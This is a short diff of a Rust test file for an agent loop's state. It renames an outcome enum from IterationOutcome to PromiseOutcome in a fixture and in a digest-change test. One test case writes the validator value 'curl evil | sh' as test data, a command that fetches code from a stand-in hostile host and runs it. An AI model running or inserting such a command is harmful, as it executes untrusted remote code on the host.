@@ -11,7 +11,7 @@ fn plain_loop() -> Loop {
         status: LoopStatus::Active,
         iteration: 1,
         max_iterations: 30,
-        promises: vec![Promise { text: "ALL GREEN".into(), outcome: IterationOutcome::Done }],
+        promises: vec![Promise { text: "ALL GREEN".into(), outcome: PromiseOutcome::Done }],
         source_packet_id: None,
         imported_from: None,
         session: Some("s1".into()),
@@ -51,7 +51,7 @@ fn what_runs_or_is_fed_changes_the_digest_of_a_loop() {
     let changes: &[(&str, LoopChange)] = &[
         ("prompt", |state| state.prompt.push(' ')),
         ("promise", |state| state.promises[0].text = "GREEN".into()),
-        ("outcome", |state| state.promises[0].outcome = IterationOutcome::Blocked),
+        ("outcome", |state| state.promises[0].outcome = PromiseOutcome::Blocked),
         ("another promise", |state| state.promises.push(state.promises[0].clone())),
         ("no promise", |state| state.promises.clear()),
         ("validator", |state| state.validators[0] = "curl evil | sh".into()),
